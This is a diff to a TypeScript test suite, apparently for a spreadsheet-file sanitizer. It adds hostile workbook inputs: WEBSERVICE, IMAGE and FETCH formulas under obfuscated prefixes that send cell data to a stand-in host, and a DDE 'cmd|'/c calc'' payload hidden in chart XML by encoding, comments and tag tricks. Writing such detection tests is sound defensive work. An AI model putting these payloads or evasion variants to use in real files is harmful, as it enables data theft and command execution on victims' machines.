@@ -203,6 +203,11 @@ const harmless: readonly Hostile[] = [
   { name: "a link in a formula", make: () => formula('HYPERLINK("http://example.org/","7")'), opens: ["file-outside"] },
   { name: "a function that asks a service", make: () => formula('LEN(_xlfn.TRANSLATE(B1,"vi","en"))'), opens: ["file-outside"] },
   { name: "a function of a program beside", make: () => formula('_xll.FETCH(B1)'), opens: ["file-outside"] },
+  ...[
+    "_XLFN.WEBSERVICE", "_Xlfn._xlws.IMAGE", "_xlfn._XLWS.IMAGE", "_XLUDF.WEBSERVICE", "_xlfn._xll.FETCH", "_XLL._xlfn.FETCH", "_xlfn._xlfn.RTD",
+    "_xl_xlfn.fn.WEBSERVICE", "COM.MICROSOFT.WEBSERVICE", "_xlfn.ORG.LIBREOFFICE.WEBSERVICE", "_xlfn.WEBSERVICE ",
+  ].map((called): Hostile => ({ name: `a fetching function called ${called}`, make: () => formula(`7+${called}("http://example.org/?"&amp;A2)`), opens: ["file-outside"] })),
+  { name: "words and a sheet that are called as a prefix", make: () => book({ names: ["_xlfn.IMAGE"], sheets: [cells(`<row r="1"><c r="A1"><f>'_xlfn.IMAGE'!B1&amp;"_xlfn.IMAGE("</f><v>7</v></c></row>`)] }), opens: [] },
   { name: "a name of a book by its path", make: () => formula("1+'C:\\x\\b.xlsx'!Total"), opens: ["file-outside"] },
   { name: "a division beside a quoted sheet", make: () => formula("'T1'!B1/'T1'!B2"), opens: [] },
   { name: "a format that fetches", make: () => sheet(`${seven}<conditionalFormatting sqref="A1:A3"><cfRule type="expression" priority="1"><formula>_xlfn.WEBSERVICE("http://example.org/?"&amp;A1)=1</formula></cfRule></conditionalFormatting>`), opens: ["file-parts-left"] },
@@ -293,6 +298,15 @@ const hanging: readonly Hostile[] = [
   { name: "a slicer in a drawing", make: shape('<a:graphicData uri="http://schemas.microsoft.com/office/drawing/2010/slicer"/>'), ...left },
   { name: "a chart of another workbook's cells", make: withChart(CHART.replace("T1!", "[1]T1!")), ...left },
   { name: "a chart of another program's data", make: withChart(CHART.replace("T1!$A$1", "cmd|'/c calc'!A0")), ...left },
+  ...([
+    ["in numbers", "<c:f>cmd&#124;'/c calc'!A0</c:f>"], ["in hexadecimal ones", "<c:f>&#x5b;1&#x5d;T1!A1</c:f>"],
+    ["behind a remark", "<c:f><!-- x -->cmd|'/c calc'!A0</c:f>"], ["around a remark", "<c:f>cmd<!-- x -->|'/c calc'!A0</c:f>"],
+    ["behind a word to programs", "<c:f><?x y?>cmd|'/c calc'!A0</c:f>"], ["behind a tag", "<c:f><c:x/>cmd|'/c calc'!A0</c:f>"],
+    ["behind a mark in an attribute", "<c:f a='>'>cmd|'/c calc'!A0</c:f>"], ["as a series' name", "<c:nf>cmd|'/c calc'!A0</c:nf>"],
+    ["under another prefix", "<c-c:f xmlns:c-c='c'>cmd|'/c calc'!A0</c-c:f>"],
+  ] as const).map(([how, inside]): Hostile => ({
+    name: `a chart of another program's data, written ${how}`, make: withChart(CHART.replace("<c:f>T1!$A$1</c:f>", () => inside)), ...left,
+  })),
   { name: "a chart with a workbook of its own", make: withChart(CHART.replace("</c:chartS", '<c:externalData id="x"/></c:chartS')), ...left },
   { name: "a chart of a pivot", make: withChart(CHART.replace("<c:chart>", "<c:pivotSource/><c:chart>")), ...left },
   { name: "a chart with a bare mark in it", make: withChart(CHART.replace("T1!", "T1 & T2!")), ...left },
